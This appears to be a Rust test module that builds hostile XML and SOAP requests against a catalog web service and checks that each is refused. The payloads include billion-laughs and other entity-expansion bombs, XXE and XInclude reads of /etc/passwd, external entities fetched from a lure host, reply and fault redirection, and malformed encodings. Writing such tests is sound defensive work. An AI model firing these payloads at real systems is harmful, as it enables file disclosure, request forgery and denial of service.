//! XML and SOAP: entities, limits, what is not well-formed, envelopes that are none. Published weaknesses by number.

use super::{Attack, Right, article, envelope, post, soap};

const FORBIDDEN: Right = Right::Told(&["message.forbidden"]);
const LIMIT: Right = Right::Told(&["message.limit"]);
const MALFORMED: Right =
    Right::Told(&["message.malformed", "message.forbidden", "message.unexpected", "message.encoding"]);

fn doctype(subset: &str, sku: &str) -> Vec<u8> {
    soap(format!("<?xml version=\"1.0\"?><!DOCTYPE s:Envelope {subset}>{}", article(sku)))
}

fn utf_16(text: &str, big: bool, mark: bool) -> Vec<u8> {
    let mark = if mark { "\u{feff}" } else { "" };
    let units = format!("{mark}{text}");
    units.encode_utf16().flat_map(|unit| if big { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect()
}

fn laughs() -> String {
    let mut subset = String::from("[<!ENTITY l0 \"ha\">");
    for level in 1..12 {
        subset.push_str(&format!("<!ENTITY l{level} \"{}\">", format!("&l{};", level - 1).repeat(10)));
    }
    subset + "]"
}

fn attributes(count: usize) -> String {
    let list: String = (0..count).map(|n| format!(" a{n}=\"\"")).collect();
    envelope("", &format!("<c:GetArticle{list}><c:sku>x</c:sku></c:GetArticle>"))
}

pub fn attacks(lure: &str) -> Vec<Attack> {
    let of = |name, bytes, right| Attack { name, bytes, right };
    let mut all = entities(lure);
    let deep = |levels: usize| envelope("", &format!("{}{}", "<a>".repeat(levels), "</a>".repeat(levels)));
    let long = |length: usize| "n".repeat(length);
    all.extend([
        of("a million attributes (CVE-2013-2160)", soap(attributes(1_000_000)), LIMIT),
        of("501 attributes", soap(attributes(501)), LIMIT),
        of("nested 100,000 deep (CVE-2013-2160)", soap(deep(100_000)), LIMIT),
        of("nested 101 deep", soap(deep(101)), LIMIT),
        of("2 million levels without ends", soap("<a>".repeat(2_000_000)), Right::Told(&["soap.no_envelope", "message.limit"])),
        of("60,000 children", soap(envelope("", &format!("<c:DeleteArticles>{}</c:DeleteArticles>", "<c:sku>x</c:sku>".repeat(60_000)))), LIMIT),
        of("an element's name of 1 MB", soap(envelope("", &format!("<{}/>", long(1 << 20)))), LIMIT),
        of("an attribute's name of 1 MB", soap(envelope("", &format!("<c:GetArticle {}=\"1\"/>", long(1 << 20)))), LIMIT),
        of("a prefix of 1 MB", soap(envelope("", &format!("<{}:a/>", long(1 << 20)))), LIMIT),
        of("a prefix that is declared 100,000 times", soap(envelope("", &"<a xmlns:p=\"urn:p\">".repeat(100_000))), LIMIT),
        of("10,000 header blocks", soap(envelope(&"<h xmlns=\"urn:h\"/>".repeat(10_000), "<c:ListCategories/>")), Right::Done),
        of("10,000 header blocks to be understood", soap(envelope(&"<h xmlns=\"urn:h\" s:mustUnderstand=\"1\"/>".repeat(10_000), "<c:ListCategories/>")), Right::Told(&["MustUnderstand"])),
        of("a body larger than allowed", post("/soap/catalog", "content-type: text/xml\r\n", vec![b' '; 70 << 20]), Right::Status(413)),
        of("a processing instruction of 8 MB (CVE-2017-9765)", soap(format!("<?x {}?>{}", long(8 << 20), article("none"))), Right::Told(&["article.not_found"])),
        of("a processing instruction in the body", soap(envelope("", "<c:GetArticle><?php x?><c:sku>x</c:sku></c:GetArticle>")), FORBIDDEN),
        of("duplicate attributes", soap(envelope("", "<c:GetArticle a=\"1\" a=\"2\"/>")), MALFORMED),
        of("duplicate attributes by two prefixes", soap(envelope("", "<c:GetArticle xmlns:p=\"urn:p\" xmlns:q=\"urn:p\" p:a=\"1\" q:a=\"2\"><c:sku>x</c:sku></c:GetArticle>")), Right::Told(&["message."])),
        of("an undeclared prefix", soap(envelope("", "<nowhere:GetArticle/>")), MALFORMED),
        of("an undeclared prefix of an attribute", soap(envelope("", "<c:GetArticle nowhere:a=\"1\"/>")), Right::Told(&["message."])),
        of("the prefix xml bound to another namespace", soap(envelope("", "<c:GetArticle xmlns:xml=\"urn:x\"><c:sku>x</c:sku></c:GetArticle>")), Right::Told(&["message.", "article.not_found"])),
        of("invalid UTF-8", soap([article("").as_bytes(), b"\xff\xfe\xfd"].concat()), MALFORMED),
        of("overlong UTF-8", soap(article("none").replace("none", "\u{1}").into_bytes().into_iter().flat_map(|b| if b == 1 { vec![0xc0, 0xaf] } else { vec![b] }).collect::<Vec<u8>>()), MALFORMED),
        of("a surrogate in UTF-8", soap(article("none").into_bytes().split(|b| *b == b'n').next().unwrap().iter().copied().chain([0xed, 0xa0, 0x80]).collect::<Vec<u8>>()), MALFORMED),
        of("a NUL", soap(article("a\0b")), MALFORMED),
        of("a reference to NUL", soap(article("a&#0;b")), Right::Told(&["message."])),
        of("a reference to a control character", soap(article("a&#x1F;b")), Right::Told(&["message."])),
        of("a reference beyond Unicode", soap(article("a&#xFFFFFFFF;b")), Right::Told(&["message."])),
        of("a control character", soap(article("a\u{8}b")), MALFORMED),
        of("a comment that does not end", soap(format!("<!--{}", article("x"))), Right::Told(&["message.", "soap."])),
        of("a CDATA section that does not end", soap(envelope("", "<c:GetArticle><c:sku><![CDATA[x</c:sku>")), MALFORMED),
        of("cut off in a tag", soap(&article("none")[..140]), MALFORMED),
        of("cut off before the end", soap(&article("none")[..article("none").len() - 3]), MALFORMED),
        of("nothing at all", soap(""), Right::Told(&["soap.", "message."])),
        of("only white space", soap(" ".repeat(1_000_000)), Right::Told(&["soap.", "message."])),
        of("two envelopes", soap(article("none").repeat(2)), Right::Told(&["message.", "soap."])),
        of("something after the envelope", soap(article("none") + "<x/>"), Right::Told(&["message.", "soap."])),
        of("tags that cross", soap(envelope("", "<c:GetArticle><c:sku>x</c:GetArticle></c:sku>")), MALFORMED),
        of("an encoding that there is not", post("/soap/catalog", "content-type: text/xml; charset=klingon\r\n", article("none")), Right::Told(&["message."])),
        of("UTF-7", post("/soap/catalog", "content-type: text/xml; charset=utf-7\r\n", "+ADw-s:Envelope+AD4-"), Right::Told(&["message.", "soap."])),
        of("UTF-8 that says it is UTF-16", soap(format!("<?xml version=\"1.0\" encoding=\"UTF-16\"?>{}", article("none"))), Right::Told(&["message.", "article.not_found"])),
        of("XML 1.1", soap(format!("<?xml version=\"1.1\"?>{}", article("none"))), Right::Told(&["message.", "article.not_found"])),
        of("two bodies", soap(envelope("", "<c:ListCategories/><c:ListCategories/>")), Right::Told(&["soap.two_bodies"])),
        of("a second body", soap(envelope("", "<c:ListCategories/>").replace("</s:Envelope>", "<s:Body/></s:Envelope>")), Right::Told(&["soap.bad_envelope"])),
        of("the header after the body", soap("<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body/><s:Header/></s:Envelope>"), Right::Told(&["soap.bad_envelope"])),
        of("an envelope in the body", soap(envelope("", &envelope("", "<c:ListCategories/>"))), Right::Told(&["soap.unknown_operation"])),
        of("an operation hidden in the header", soap(envelope("<c:DeleteArticles><c:sku>x</c:sku></c:DeleteArticles>", "")), Right::Told(&["soap.empty_body"])),
        of("the action of another operation (spoofed SOAPAction)", post("/soap/catalog", "content-type: text/xml\r\nsoapaction: \"urn:soapstone:catalog/v1/DeleteArticles\"\r\n", envelope("", "<c:ListCategories/>")), Right::Told(&["soap.action_mismatch"])),
        of("a reply that is to go to somebody else (request forgery)", soap(addressing(&format!("<a:ReplyTo><a:Address>{lure}</a:Address></a:ReplyTo>"))), Right::Told(&["OnlyAnonymousAddressSupported"])),
        of("a fault that is to go to somebody else (CVE-2020-13578)", soap(addressing(&format!("<a:FaultTo><a:Address>{lure}</a:Address></a:FaultTo>"))), Right::Told(&["OnlyAnonymousAddressSupported"])),
        of("a reply that is to go to a file", soap(addressing("<a:ReplyTo><a:Address>file:///tmp/x</a:Address></a:ReplyTo>")), Right::Told(&["OnlyAnonymousAddressSupported"])),
        of("addressing without an address (CVE-2020-13575)", soap(addressing("<a:ReplyTo/>")), Right::Told(&["MissingAddressInEPR"])),
        of("schema locations that lead elsewhere (CVE-2024-28752)", soap(article("none").replacen("xmlns:c=", &format!("xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" i:schemaLocation=\"urn:soapstone:catalog/v1 {lure}/x.xsd\" i:noNamespaceSchemaLocation=\"{lure}/y.xsd\" xmlns:c="), 1)), Right::Told(&["article.not_found"])),
        of("a type that is not of the contract", soap(envelope("", "<c:GetArticle xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" i:type=\"java:java.lang.Runtime\" xmlns:java=\"urn:java\"><c:sku>x</c:sku></c:GetArticle>")), Right::Told(&["message.", "article.not_found"])),
    ]);
    all
}

fn addressing(more: &str) -> String {
    let header = format!(
        "<a:Action xmlns:a=\"http://www.w3.org/2005/08/addressing\">urn:soapstone:catalog/v1/ListCategories</a:Action><a:MessageID xmlns:a=\"http://www.w3.org/2005/08/addressing\">urn:x:1</a:MessageID>{}",
        more.replacen("To", "To xmlns:a=\"http://www.w3.org/2005/08/addressing\"", 1)
    );
    envelope(&header, "<c:ListCategories/>")
}

fn entities(lure: &str) -> Vec<Attack> {
    let of = |name, bytes, right| Attack { name, bytes, right };
    let outside = |what: &str| doctype(&format!("[<!ENTITY x {what}>]"), "&x;");
    let quadratic = format!("[<!ENTITY x \"{}\">]", "a".repeat(100_000));
    let parameter = format!("[<!ENTITY % d SYSTEM \"{lure}/d.dtd\"> %d;]");
    let laughing_parameters =
        "[<!ENTITY % a \"<!ENTITY x 'y'>\"><!ENTITY % b \"%a;%a;%a;%a;%a;\"><!ENTITY % c \"%b;%b;%b;%b;\">%c;]";
    let with_type = |text: &str| format!("<!DOCTYPE x [<!ENTITY a \"b\">]>{text}");
    vec![
        of("billion laughs (CVE-2003-1564)", doctype(&laughs(), "&l11;"), FORBIDDEN),
        of(
            "billion laughs in an attribute (CVE-2014-3660)",
            soap(format!("<!DOCTYPE x {}>{}", laughs(), article("x").replace("<c:sku>", "<c:sku a=\"&l11;\">"))),
            FORBIDDEN,
        ),
        of("parameter laughs (CVE-2021-3541)", doctype(laughing_parameters, "&x;"), FORBIDDEN),
        of("quadratic blow-up (CVE-2013-0338)", doctype(&quadratic, &"&x;".repeat(10_000)), FORBIDDEN),
        of("an entity that contains itself (CVE-2008-3281)", doctype("[<!ENTITY x \"&x;\">]", "&x;"), FORBIDDEN),
        of("an entity from a file (CVE-2019-3773)", outside("SYSTEM \"file:///etc/passwd\""), FORBIDDEN),
        of("an entity from the network (CVE-2013-0339)", outside(&format!("SYSTEM \"{lure}/e\"")), FORBIDDEN),
        of("an entity by ftp", outside("SYSTEM \"ftp://127.0.0.1:9/e\""), FORBIDDEN),
        of("an entity by a public name", outside(&format!("PUBLIC \"-//x//y\" \"{lure}/e\"")), FORBIDDEN),
        of("an unparsed entity", outside(&format!("SYSTEM \"{lure}/e\" NDATA n")), FORBIDDEN),
        of("an external subset (CVE-2010-1632)", doctype(&format!("SYSTEM \"{lure}/d.dtd\""), "x"), FORBIDDEN),
        of("an external parameter entity (CVE-2014-0191)", doctype(&parameter, "x"), FORBIDDEN),
        of(
            "attribute defaults by DTD (CVE-2010-2076)",
            doctype("[<!ATTLIST s:Envelope a CDATA \"b\">]", "x"),
            FORBIDDEN,
        ),
        of(
            "conditional sections",
            doctype("[<![INCLUDE[<!ENTITY x \"y\">]]>]", "x"),
            Right::Told(&["message.forbidden", "message.malformed"]),
        ),
        of("a DOCTYPE without anything", doctype("", "x"), FORBIDDEN),
        of(
            "a DOCTYPE of 10 MB (CVE-2022-40303)",
            doctype(&format!("[<!ENTITY x \"{}\">]", "a".repeat(10 << 20)), "&x;"),
            FORBIDDEN,
        ),
        of(
            "a DOCTYPE in UTF-16",
            post("/soap/catalog", "content-type: text/xml\r\n", utf_16(&with_type(&article("&a;")), false, true)),
            FORBIDDEN,
        ),
        of(
            "a DOCTYPE in UTF-16, the other way round",
            post("/soap/catalog", "content-type: text/xml\r\n", utf_16(&with_type(&article("&a;")), true, true)),
            FORBIDDEN,
        ),
        of(
            "a DOCTYPE in UTF-16 without a mark",
            post(
                "/soap/catalog",
                "content-type: text/xml; charset=utf-16\r\n",
                utf_16(&with_type(&article("&a;")), true, false),
            ),
            Right::Told(&["message."]),
        ),
        of(
            "a DOCTYPE in SOAP 1.2",
            post("/soap/catalog", "content-type: application/soap+xml\r\n", with_type(&article("&a;"))),
            FORBIDDEN,
        ),
        of(
            "a DOCTYPE in the middle",
            soap(envelope("<!DOCTYPE x>", "<c:ListCategories/>")),
            Right::Told(&["message.forbidden", "message.malformed"]),
        ),
        of("an entity that nobody declares", soap(article("&xxe;")), FORBIDDEN),
        of(
            "XInclude (CVE-2024-25062)",
            soap(envelope(
                "",
                "<c:GetArticle><x:include xmlns:x=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/></c:GetArticle>",
            )),
            Right::Told(&["message.unexpected"]),
        ),
        of(
            "a style sheet",
            soap(format!("<?xml-stylesheet href=\"{lure}/x.xsl\" type=\"text/xsl\"?>{}", article("none"))),
            Right::Told(&["article.not_found"]),
        ),
    ]
}
